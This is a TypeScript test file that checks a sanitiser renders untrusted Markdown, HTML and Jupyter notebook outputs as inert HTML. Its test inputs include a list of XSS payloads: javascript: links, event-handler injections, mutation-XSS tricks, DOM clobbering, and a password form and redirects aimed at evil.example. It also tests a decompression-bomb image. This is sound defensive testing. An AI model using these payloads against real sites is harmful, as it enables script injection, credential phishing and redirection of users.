import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { cutText } from './cut-text';
import { readNotebook } from './read-notebook';
import { renderMarkdown } from './render-markdown';
import { renderNotebook } from './render-notebook';
import { stripAnsi } from './render-output';
import { toImageSource } from './to-image-source';
import { toInertHtml } from './to-inert-html';

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

const TAG = /<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g;
const FORBIDDEN_TAGS = /^(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|template|noscript|video|audio|details|frame|body|html)$/;

/** Everything that could run, load, post, or shadow a name. Reads the markup as written, so it relies on the sanitiser's one way of writing it. */
function findLive(html: string): string[] {
  const found: string[] = [];
  // Once every well-formed tag is gone, no '<' may be left: what stays would be read by a browser in some way of its own.
  if (html.replace(TAG, '').includes('<')) found.push(`malformed: ${html.replace(TAG, '').slice(0, 80)}`);
  for (const [, tag = '', attributes = ''] of html.matchAll(TAG)) {
    if (FORBIDDEN_TAGS.test(tag)) found.push(tag);
    for (const [, name = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      if (!/^(href|rel|src|alt|start|colspan|rowspan|scope)$/.test(name)) found.push(`${tag} ${name}`);
      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(value)) found.push(`src ${value.slice(0, 40)}`);
    }
  }
  return found;
}

const PAYLOADS = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&#58;alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:x)',
  '[a](//evil.example/x) [b](/account) [c](#main) [d](jav\tascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '![x"onerror=alert(1) y="](https://evil.example/a"b)',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '```html\n<script>alert(1)</script>\n```',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a id=__NEXT_DATA__ href=x>clobber</a>',
  '<p style="position:fixed;inset:0" class="btn" onclick=alert(1)>x</p>',
];

describe('markdown and HTML of strangers', () => {
  test('the probe itself finds what is live', () => {
    expect(findLive('<p>fine</p><a href="https://x.example" rel="nofollow">y</a>')).toEqual([]);
    for (const bad of ['<script>', '<img src="x">', '<p id="x">', '<a href="javascript:x">', '<p onclick=x>', '<img/src=x>']) expect(findLive(bad)).not.toEqual([]);
  });

  test.each(PAYLOADS)('is inert as markdown and as HTML: %s', (payload) => {
    expect(findLive(renderMarkdown(payload))).toEqual([]);
    expect(findLive(toInertHtml(payload))).toEqual([]);
  });

  test('keeps what a text needs', () => {
    const html = renderMarkdown('# Title\n\nA **bold** [link](https://example.com/a?b=1&c=2) and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nif (a < b) {}\n```\n\n3. three');
    expect(html).toContain('<h3>Title</h3>');
    expect(html).toContain('<a href="https://example.com/a?b=1&amp;c=2" rel="noopener nofollow ugc">link</a>');
    expect(html).toContain('<td>2</td>');
    expect(html).toContain('if (a &lt; b) {}');
    expect(html).toContain('<ol start="3">');
    expect(renderMarkdown('a <b>tag</b>')).toContain('a &lt;b&gt;tag&lt;/b&gt;');
  });

  test('a picture elsewhere becomes a link, an embedded one is checked by its bytes', () => {
    expect(renderMarkdown('![map](https://example.com/m.png)')).toContain('<a href="https://example.com/m.png" rel="noopener nofollow ugc">Picture: map</a>');
    expect(renderMarkdown(`![dot](data:image/png;base64,${PNG})`)).toContain(`<img src="data:image/png;base64,${PNG}" alt="dot"`);
    expect(renderMarkdown(`![dot](attachment:a%20b.png)`, new Map([['a b.png', PNG]]))).toContain('<img src="data:image/png');
    expect(renderMarkdown(`![no](data:image/png;base64,${Buffer.from('<svg onload=alert(1)>').toString('base64')})`)).not.toContain('<img');
  });

  const shared = '../shared/data/hostile/text/markdown_xss.txt';
  test.skipIf(!existsSync(shared))('the shared payloads are inert, line by line and as one document', () => {
    const text = readFileSync(shared, 'utf8');
    for (const payload of [...text.split('\n'), text]) {
      expect(findLive(renderMarkdown(payload))).toEqual([]);
      expect(findLive(toInertHtml(payload))).toEqual([]);
    }
  });

  // These take at most 70 ms; one quadratic step anywhere would take minutes.
  test.each(['[', '![', '*a_', '`', '<', '> ', '- ', '[a](', '&', '|a|\n|-|\n', '~', '\\', '<!--', 'a@', '**', '`a``', '<b>', '&#'])('60,000 characters of %j do not hang it', (piece) => {
    const started = performance.now();
    expect(findLive(toInertHtml(piece.repeat(60_000 / piece.length)))).toEqual([]);
    expect(findLive(renderMarkdown(piece.repeat(60_000 / piece.length)))).toEqual([]);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe('pictures', () => {
  test('are what their first bytes say', () => {
    expect(toImageSource(PNG)).toMatch(/^data:image\/png;base64,/);
    expect(toImageSource(Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00', 'latin1').toString('base64'))).toMatch(/^data:image\/gif/);
    for (const no of ['', 'bm8=', Buffer.from('<html>').toString('base64'), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64'), PNG.slice(0, 20)]) expect(toImageSource(no)).toBeNull();
  });

  test('too many pixels are not shown', () => {
    const bomb = Buffer.from(PNG, 'base64');
    bomb.writeUInt32BE(30_000, 16);
    bomb.writeUInt32BE(30_000, 20);
    expect(toImageSource(bomb.toString('base64'))).toBeNull();
  });
});

const place = { fileName: 'a.ipynb', maxCells: 6, frameUrl: (cell: number, output: number) => `/api/preview/ast_x/${cell}/${output}` };
const version4 = (cells: object[], metadata: object = {}) => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata, cells });
const output = (data: object) => ({ cell_type: 'code', execution_count: 1, source: 'x', outputs: [{ output_type: 'display_data', data, metadata: {} }] });

function render(text: string, maxCells = 6) {
  const notebook = readNotebook(text);
  if (!notebook) throw new Error('not a notebook');
  return renderNotebook(notebook, { ...place, maxCells });
}

const shownOf = (data: object) => render(version4([output(data)])).cells[0]?.outputs[0];

describe('notebooks', () => {
  test('each kind of output is inert', () => {
    expect(shownOf({ 'text/html': ['<table onclick="x"><tr><td style="color:red">1</td></tr></table>', '<script>alert(1)</script>'] })).toEqual({ form: 'html', html: '<table><tr><td>1</td></tr></table>' });
    expect(shownOf({ 'text/latex': '$\\frac{1}{2} <b>$' })).toEqual({ form: 'html', html: '<pre>$\\frac{1}{2} &lt;b&gt;$</pre>' });
    expect(shownOf({ 'image/png': `${PNG.slice(0, 40)}\n${PNG.slice(40)}`, 'text/plain': 'x' })).toMatchObject({ html: expect.stringContaining(`data:image/png;base64,${PNG}`) as string });
    expect(shownOf({ 'image/png': '', 'text/plain': ['<Figure size', ' 6x4>'] })).toEqual({ form: 'html', html: '<pre>&lt;Figure size 6x4&gt;</pre>' });
    expect(shownOf({ 'image/svg+xml': '<svg onload=alert(1)></svg>' })).toEqual({ form: 'frame', frameUrl: '/api/preview/ast_x/0/0' });
    expect(shownOf({ 'application/javascript': 'alert(1)', 'text/plain': '<Javascript>' })).toMatchObject({ html: expect.stringContaining('not run here') as string });
    expect(shownOf({ 'application/vnd.jupyter.widget-view+json': { model_id: 'x' }, 'text/plain': 'IntSlider()' })).toMatchObject({ html: expect.stringContaining('widget') as string });
    expect(shownOf({ 'text/markdown': '**b** <script>x</script>' })).toMatchObject({ html: expect.stringContaining('<strong>b</strong>') as string });
    expect(shownOf({ 'text/html': '<script>plot()</script>', 'text/plain': 'Figure' })).toEqual({ form: 'html', html: '<pre>Figure</pre>' });
    expect(shownOf({ 'application/x-unknown': 'zzz' })).toMatchObject({ html: expect.stringContaining('cannot be shown') as string });
    expect(shownOf({ 'application/json': { a: 1 } })).toMatchObject({ html: expect.stringContaining('&quot;a&quot;: 1') as string });
  });

  test('streams and errors are plain text, without the terminal', () => {
    const [cell] = render(
      version4([
        {
          cell_type: 'code',
          execution_count: 7,
          source: ['import x\n', 'x()'],
          outputs: [
            { output_type: 'stream', name: 'stdout', text: ['a\n', '\u001b[31mred\u001b[0m'] },
            { output_type: 'error', ename: 'E', evalue: 'v', traceback: ['\u001b[0;31mE\u001b[0m: <v>', '\u001b]8;;https://evil.example\u0007here'] },
          ],
        },
      ]),
    ).cells;
    expect(cell).toMatchObject({ kind: 'code', count: 7, html: '<pre>import x\nx()</pre>' });
    expect(cell?.outputs).toEqual([{ form: 'html', html: '<pre>a\nred</pre>' }, { form: 'html', html: '<pre>E: &lt;v&gt;\nhere</pre>' }]);
    expect(stripAnsi('a\u001b[1;2Hb\u001bMc')).toBe('abc');
  });

  test('nbformat 3 is read too', () => {
    const preview = render(
      JSON.stringify({
        nbformat: 3,
        metadata: { name: 'old' },
        worksheets: [
          {
            cells: [
              { cell_type: 'heading', level: 2, source: ['Old times'] },
              { cell_type: 'code', language: 'python', input: ['1+', '1'], prompt_number: 3, outputs: [{ output_type: 'pyout', text: ['2'], html: ['<b>2</b>'], prompt_number: 3 }, { output_type: 'pyerr', ename: 'E', evalue: 'v', traceback: [] }, { output_type: 'display_data', png: PNG }] },
            ],
          },
        ],
      }),
    );
    expect(preview.cells[0]).toMatchObject({ kind: 'markdown', html: expect.stringContaining('<h3>Old times</h3>') as string });
    expect(preview.cells[1]).toMatchObject({ count: 3, html: '<pre>1+1</pre>' });
    expect(preview.cells[1]?.outputs.map((one) => one.form === 'html' && one.html)).toEqual(['<b>2</b>', '<pre>E: v</pre>', expect.stringContaining('data:image/png')]);
  });

  test('visitors see the first cells and how many there are besides', () => {
    const cells = Array.from({ length: 20 }, (_, index) => ({ cell_type: 'raw', source: `cell ${index}` }));
    expect(render(version4(cells))).toMatchObject({ hiddenCells: 14, cells: { length: 6 } });
    expect(render(version4(cells.slice(0, 3), { latchkey: { hiddenCells: 9 } }))).toMatchObject({ hiddenCells: 9, cells: { length: 3 } });
    expect(JSON.stringify(render(version4(cells)))).not.toContain('cell 6');
  });

  test('broken ones are refused or read as far as they make sense, never thrown at', () => {
    for (const no of ['', 'null', '[]', '{}', '{"nbformat":4}', '{"nbformat":2,"cells":[]}', '{"nbformat":4,"cells":{}}']) expect(readNotebook(no)).toBeUndefined();
    const odd = version4([{}, { cell_type: 'code', source: 5, outputs: 'x' }, { cell_type: '<script>', source: '<script>' }, { cell_type: 'code', outputs: [{}, { output_type: 'stream' }, { output_type: 'display_data', data: { '__proto__': 'x' } }] }]);
    for (const cell of render(odd).cells) expect(findLive(cell.html)).toEqual([]);
  });

  const folder = '../shared/data/notebooks';
  const files = existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.ipynb') && statSync(join(folder, name)).isFile()) : [];
  test.skipIf(files.length === 0)('the shared notebooks are all shown, and all inert', () => {
    for (const file of files) {
      const preview = render(readFileSync(join(folder, file), 'utf8'), 200);
      expect(preview.cells.length, file).toBeGreaterThan(0);
      for (const html of preview.cells.flatMap((cell) => [cell.html, ...cell.outputs.flatMap((one) => (one.form === 'html' ? [one.html] : []))])) expect(findLive(html), file).toEqual([]);
    }
  });
});

test('a text is cut between paragraphs, and an open code block is closed', () => {
  expect(cutText('short', 100)).toEqual({ shown: 'short', shortened: false });
  expect(cutText(`${'a'.repeat(60)}\n\n${'b'.repeat(60)}`, 100)).toEqual({ shown: 'a'.repeat(60), shortened: true });
  expect(cutText(`\`\`\`sh\n${'ls\n'.repeat(60)}`, 100).shown).toMatch(/ls\n```$/);
});
